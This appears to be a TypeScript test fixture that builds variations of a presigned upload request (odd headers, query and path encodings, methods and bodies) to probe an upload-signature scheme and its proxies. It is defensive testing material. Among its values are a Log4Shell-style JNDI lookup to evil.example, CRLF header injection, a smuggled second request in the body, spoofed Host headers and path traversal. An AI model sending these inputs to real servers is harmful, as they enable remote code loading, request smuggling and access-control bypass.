import { type Change, replacingFields, withFields } from "../hostile/upload-draft.ts";

/** A part of an upload that the client controls, in a form or with a value that might affect the signature. */
export type Variation = readonly [name: string, change: Change];

const words = (text: string): string[] => text.trim().split(/\s+/);

/** Headers that HTTP itself, browsers and clients know. */
const COMMON = words(`
  accept accept-charset accept-encoding accept-language accept-ranges access-control-request-headers
  access-control-request-method age allow alt-svc cache-control connection content-disposition content-encoding content-id
  content-language content-length content-location content-md5 content-range content-security-policy content-type cookie
  cookie2 date depth destination digest dnt early-data etag expect expires forwarded from front-end-https host http2-settings
  if-match if-modified-since if-none-match if-range if-unmodified-since keep-alive last-modified link location max-forwards
  mime-version negotiate origin overwrite pragma prefer priority proxy-authenticate proxy-authorization proxy-connection
  purpose range referer refresh repr-digest request-range retry-after sec-fetch-mode sec-fetch-site sec-websocket-key
  sec-websocket-version server set-cookie slug te timeout trailer transfer-encoding upgrade upgrade-insecure-requests
  user-agent vary via want-digest warning www-authenticate x-requested-with
`);

/** Headers that tell a proxy, or a server behind it, about the original request. */
const FORWARDING = words(`
  client-ip cf-connecting-ip cf-ray cf-visitor cf-worker cdn-loop cloudfront-forwarded-proto cloudfront-viewer-country fastly-client-ip
  forwarded-for mf-cf-blob mf-custom-fetch-service mf-custom-service mf-disable-pretty-error mf-error-stack mf-op
  mf-original-hostname mf-original-url mf-proxy-shared-secret mf-route-override mf-vitest-port true-client-ip x-accel-redirect
  x-amzn-trace-id x-cache x-client-ip x-cluster-client-ip x-edge-location x-forwarded x-forwarded-by x-forwarded-for
  x-forwarded-host x-forwarded-path x-forwarded-port x-forwarded-prefix x-forwarded-proto x-forwarded-scheme x-forwarded-server
  x-host x-http-host-override x-http-method x-http-method-override x-method-override x-original-host x-original-method
  x-original-uri x-original-url x-override-url x-proxy-url x-real-ip x-request-uri x-rewrite-url x-scheme x-sendfile x-url-scheme
`);

/** Headers that some object store reads: S3 and its kin, Swift behind the same gateway, what Ceph keeps for itself. */
const STORES = words(`
  authorization x-amz-acl x-amz-algorithm x-amz-bypass-governance-retention x-amz-cf-id x-amz-checksum-crc32
  x-amz-checksum-sha256 x-amz-content-sha256 x-amz-copy-source x-amz-copy-source-range x-amz-credential x-amz-date
  x-amz-decoded-content-length x-amz-expected-bucket-owner x-amz-expires x-amz-grant-read x-amz-meta-name
  x-amz-meta-presign-once-id x-amz-mfa
  x-amz-object-lock-mode x-amz-request-payer x-amz-sdk-checksum-algorithm x-amz-security-token
  x-amz-server-side-encryption x-amz-server-side-encryption-customer-algorithm x-amz-signature x-amz-signedheaders
  x-amz-storage-class x-amz-tagging x-amz-te x-amz-trailer x-amz-user-agent x-amz-website-redirect-location x-amz-write-offset-bytes
  amz-sdk-invocation-id amz-sdk-request x-amzn-requestid x-auth-key x-auth-token x-auth-user x-container-meta-name x-copy-from
  x-delete-after x-delete-at x-detect-content-type x-goog-acl x-goog-content-sha256 x-goog-date x-goog-meta-name
  x-object-manifest x-object-meta-name x-oss-date x-rgw-dest-zone x-rgw-quota-max-objects x-service-token x-storage-token
  x-subject-token x-trans-id-extra x-once x-once-lock x-once-max-bytes x-once-tag
  rgwx-copy-if-newer rgwx-source-zone rgwx-system-meta-all
`);

/** Each of the names on its own, with a value that is as good as any. */
export const singleHeaders: readonly Variation[] = [...COMMON, ...FORWARDING, ...STORES].map((name) => {
  const sent = name === "content-length" || name === "host" ? replacingFields([name, "5"]) : withFields([name, "1"]);
  return [`the header ${name}`, sent];
});

/** Names that some server might read as one of S3's, or not read at all. */
const misspeltNames = [
  "x_amz_acl",
  "x_once_lock",
  "x-amz_copy-source",
  "x.amz.acl",
  "X-AMZ-ACL",
  "x-amz-acl ",
  "x-amz\x2dacl\t",
  "\xa0x-amz-acl",
  "x-once-lock\0",
  "if_none_match",
  "content_type",
  "content_md5",
  "http-x-amz-acl",
  "-",
  "x-",
  "__proto__",
  "constructor",
];

const unusualValues: readonly (readonly [name: string, value: string])[] = [
  ["Content-Type", ""],
  ["Content-Type", ";"],
  ["Content-Type", "text/plain;  charset=utf-8"],
  ["Content-Type", "text/plain\t"],
  ["Content-Type", "\xe9"],
  ["Content-Type", "multipart/form-data; boundary=a"],
  ["Content-Type", "application/x-www-form-urlencoded"],
  ["Content-Type", `text/${"a".repeat(2_000)}`],
  ["Content-Encoding", "gzip"],
  ["Content-Encoding", "br, identity"],
  ["Content-Encoding", "aws-chunked"],
  ["Content-Encoding", "gzip,AWS-CHUNKED"],
  ["Content-Encoding", "aws\x2dchunked,gzip"],
  ["Content-Disposition", 'attachment; filename="a.txt"'],
  ["Content-Disposition", "attachment; filename*=UTF-8''%e2%82%ac"],
  ["Content-Language", "de, en;q=0"],
  ["Content-Range", "bytes 0-4/5"],
  ["Content-Length", "+5"],
  ["Content-Length", "05"],
  ["Content-Length", "5, 5"],
  ["Content-Md5", "XUFAKrxLKna5cZ2REBfFkg=="],
  ["Content-Md5", "1B2M2Y8AsgTpgAmY7PhCfg=="],
  ["Content-Md5", "=="],
  ["Cache-Control", "max-age=0,, no-store="],
  ["Expires", "not a date"],
  ["Expires", "0"],
  ["Date", "Thu, 01 Jan 1970 00:00:00 GMT"],
  ["Date", "20260101T000000Z"],
  ["Range", "bytes=0-1"],
  ["Expect", "100-continue"],
  ["Expect", "200-ok"],
  ["Connection", "close, x-once-lock"],
  ["Connection", "keep-alive, host, content-length"],
  ["Connection", "upgrade"],
  ["Keep-Alive", "timeout=1"],
  ["TE", "trailers"],
  ["Trailer", "x-amz-checksum-crc32"],
  ["Transfer-Encoding", "identity"],
  ["Transfer-Encoding", "chunked"],
  ["Upgrade", "h2c"],
  ["Upgrade", "websocket"],
  ["Cookie", "a=1; X-Amz-Signature=0"],
  ["Origin", "https://evil.example"],
  ["Origin", "null"],
  ["Referer", "\xff\xfe"],
  ["User-Agent", ""],
  ["User-Agent", "B\xfccherwurm/1 \xf0\x9f\x90\x9b"],
  ["User-Agent", "${jndi:ldap://evil.example/a}"],
  ["X-Forwarded-For", "127.0.0.1, 10.0.0.1, \t"],
  ["X-Forwarded-Host", "evil.example"],
  ["X-Forwarded-Proto", "https"],
  ["X-HTTP-Method-Override", "GET"],
  ["X-HTTP-Method-Override", "DELETE"],
  ["X-Original-URL", "/other"],
  ["Forwarded", "for=1;host=evil.example;proto=https"],
  ["X-Note", " \t leading and  inner  blanks \t "],
  ["X-Note", "a".repeat(4_000)],
  ["X-Note", "%0d%0ax-amz-acl: public-read"],
  ["X-Note", "a\rb"],
  ["X-Note", "a\0b"],
  ["X-Note", "a\x7fb"],
  ["Host", "evil.example"],
  ["Host", "127.0.0.1"],
  ["Host", ""],
  ["Authorization", ""],
  ["Authorization", "AWS4-HMAC-SHA256 Credential=A, SignedHeaders=host, Signature=0"],
];

const repeated: readonly (readonly [name: string, first: string, second: string])[] = [
  ["Content-Type", "text/plain", "text/html"],
  ["Content-Length", "5", "5"],
  ["Cookie", "a=1", "b=2"],
  ["Host", "127.0.0.1", "127.0.0.1"],
  ["X-Note", "1", "2"],
  ["X-Forwarded-For", "127.0.0.1", "127.0.0.2"],
  ["Date", "1", "2"],
];

/** Values, repetitions and misspelt names, each of which might make two servers see two requests. */
export const unusualHeaders: readonly Variation[] = [
  ...misspeltNames.map((name): Variation => [`the name ${JSON.stringify(name)}`, withFields([name, "1"])]),
  ...unusualValues.map((field): Variation => [
    `${field[0]}: ${JSON.stringify(field[1].slice(0, 60))}`,
    replacingFields(field),
  ]),
  ...repeated.map(([name, first, second]): Variation => {
    return [`${name} twice`, replacingFields([name, first], [name.toLowerCase(), second])];
  }),
  ["each granted header twice", doubling((name, value) => [name, value])],
  ["each granted header behind another value", doubling((name) => [name, "other"])],
  [
    "a name in capitals",
    (draft) => ({ ...draft, fields: draft.fields.map(([name, value]) => [name.toUpperCase(), value]) }),
  ],
  ["no blank after the colon", (draft) => ({ ...draft, fields: [...draft.fields, ["X-Note:", ""]] })],
];

/** Puts another field before each that the client was told to send. */
function doubling(before: (name: string, value: string) => readonly [string, string]): Change {
  const isOwn = (name: string) => /^(?:host|content-length)$/i.test(name);
  return (draft) => ({
    ...draft,
    fields: draft.fields.flatMap(([name, value]) =>
      isOwn(name) ? [[name, value]] : [before(name, value), [name, value]],
    ),
  });
}

/** A header that is passed on, of sizes up to what the edge takes, and of more; and others that are not. */
export const largeHeaders: readonly Variation[] = ["user-agent", "x-note", "cache-control", "via"].flatMap((name) =>
  [1, 1.5, 1.7, 1.8, 4, 6, 6.5, 7, 7.25, 7.5, 7.75, 7.9, 8, 9, 12].map((kilobytes): Variation => [
    `${kilobytes} kB of ${name}`,
    replacingFields([name, "a".repeat(kilobytes * 1_000)]),
  ]),
);

/** Other encodings of the query, and other queries. */
export const queries: readonly Variation[] = (
  [
    ["turned round", (query) => query.split("&").toReversed().join("&")],
    ["with small escapes", (query) => query.replace(/%../g, (escape) => escape.toLowerCase())],
    ["escaped throughout", (query) => query.replace(/(?<![%0-9A-F]|%.)[A-Za-z0-9._~-]/g, percent)],
    ["with + for a blank", (query) => `${query}&a=b+c`],
    ["with %2B for +", (query) => query.replaceAll("+", "%2B")],
    ["with + for %2B", (query) => query.replaceAll("%2B", "+")],
    ["with %20", (query) => query.replace("=host", "=%20host")],
    ["with an unescaped ;", (query) => query.replace("%3B", ";")],
    ["with an unescaped /", (query) => query.replaceAll("%2F", "/")],
    ["with an empty segment", (query) => `${query}&`],
    ["with two &", (query) => query.replace("&", "&&")],
    ["with an empty name", (query) => `${query}&=`],
    ["with a name and no =", (query) => `${query}&acl`],
    ["with another parameter", (query) => `${query}&x-id=PutObject`],
    ["with a sub-resource", (query) => `${query}&tagging=`],
    ["with a part number", (query) => `partNumber=1&uploadId=2&${query}`],
    ["with a second signature", (query) => `${query}&X-Amz-Signature=${"0".repeat(64)}`],
    [
      "with a signature in capitals",
      (query) => query.replace(/X-Amz-Signature=[0-9a-f]+/, (text) => text.toUpperCase()),
    ],
    ["with a name in small letters", (query) => query.replace("X-Amz-Date", "x-amz-date")],
    ["with an escaped name", (query) => query.replace("X-Amz-Date", "X%2DAmz%2DDate")],
    ["with a second tag", (query) => `${query}&x-once-tag=a.${"0".repeat(64)}`],
    ["with the tag first", (query) => query.replace(/(.*)&(x-once-tag=.*)/, "$2&$1")],
    ["with an escaped tag", (query) => query.replace("x-once-tag", "x-once%2Dtag")],
    ["with the tag in capitals", (query) => query.replace("x-once-tag", "X-Once-Tag")],
    ["with a ? in it", (query) => `${query}?a=b`],
    ["with an overlong escape", (query) => query.replace("host", "%c1%a8ost")],
    ["with a broken escape", (query) => `${query}%`],
    ["with a byte beyond ASCII", (query) => `${query}&a=\xe9`],
    ["with a NUL", (query) => `${query}&a=%00`],
    ["with a fragment", (query) => `${query}#a`],
    ["with a blank", (query) => `${query}&a=b c`],
    ["without its tag", (query) => query.replace(/&x-once-tag=.*/, "")],
    ["without its signature", (query) => query.replace(/X-Amz-Signature=[^&]*&/, "")],
    ["signing fewer headers", (query) => query.replace("%3Bx-once-lock", "")],
    ["not signing its id", (query) => query.replace("x-amz-meta-presign-once-id%3B", "")],
    ["living longer", (query) => query.replace("X-Amz-Expires=930", "X-Amz-Expires=604800")],
    ["filled up to 8 kB", (query) => `${query}&a=${"a".repeat(Math.max(0, 8_000 - query.length))}`],
    ["far too long", (query) => `${query}&a=${"a".repeat(9_000)}`],
  ] satisfies [string, (query: string) => string][]
).map(([name, respell]) => [`the query ${name}`, (draft) => ({ ...draft, query: respell(draft.query) })]);

/** Other encodings of the path, and other paths. */
export const paths: readonly Variation[] = (
  [
    ["with an escaped letter", (path) => path.replace("u", "%75")],
    ["with an escaped slash", (path) => path.replace(/(?<!^)\//, "%2F")],
    ["with a second slash", (path) => `/${path}`],
    ["with a slash at its end", (path) => `${path}/`],
    ["with a dot segment", (path) => `/.${path}`],
    ["with a way back", (path) => `/a/..${path}`],
    ["with an escaped way back", (path) => `/a/%2e%2e${path}`],
    ["with a backslash", (path) => path.replace("/uploads", "\\uploads")],
    ["with a semicolon", (path) => `${path};a=b`],
    ["with a NUL", (path) => `${path}%00`],
    ["with a byte beyond ASCII", (path) => `${path}\xe9`],
    ["with a line end", (path) => `${path}%0d%0a`],
    ["in capitals", (path) => path.toUpperCase()],
    ["with scheme and host", (path) => `http://evil.example${path}`],
    ["with another scheme", (path) => `ftp://evil.example${path}`],
    ["with scheme and no host", (path) => `http://${path}`],
    ["of an index entry", (path) => path.replace("/uploads/", "/signatures/")],
    ["of the issuer", () => "/url"],
    ["of the server", () => "*"],
    ["of nothing", () => "/"],
  ] satisfies [string, (path: string) => string][]
).map(([name, respell]) => [`the path ${name}`, (draft) => ({ ...draft, path: respell(draft.path) })]);

/** Other methods and versions, and bodies that are not as announced. */
export const others: readonly Variation[] = [
  ...[
    "GET",
    "HEAD",
    "POST",
    "DELETE",
    "PATCH",
    "OPTIONS",
    "TRACE",
    "CONNECT",
    "put",
    "Put",
    "PROPFIND",
    "PUT\t",
    "X",
  ].map((method): Variation => [`the method ${JSON.stringify(method)}`, (draft) => ({ ...draft, method })]),
  ...["HTTP/1.0", "HTTP/0.9", "HTTP/1.2", "HTTP/2.0", "http/1.1", "HTTP/1.1 "].map((version): Variation => [
    `the version ${JSON.stringify(version)}`,
    (draft) => ({ ...draft, version }),
  ]),
  ["no body", (draft) => replacingFields(["Content-Length", "0"])({ ...draft, body: "" })],
  ["more body than announced", (draft) => ({ ...draft, body: `${draft.body} and more` })],
  ["a request after the body", (draft) => ({ ...draft, body: `${draft.body}GET / HTTP/1.1\r\nHost: a\r\n\r\n` })],
];

function percent(character: string): string {
  return `%${character.charCodeAt(0).toString(16).toUpperCase().padStart(2, "0")}`;
}
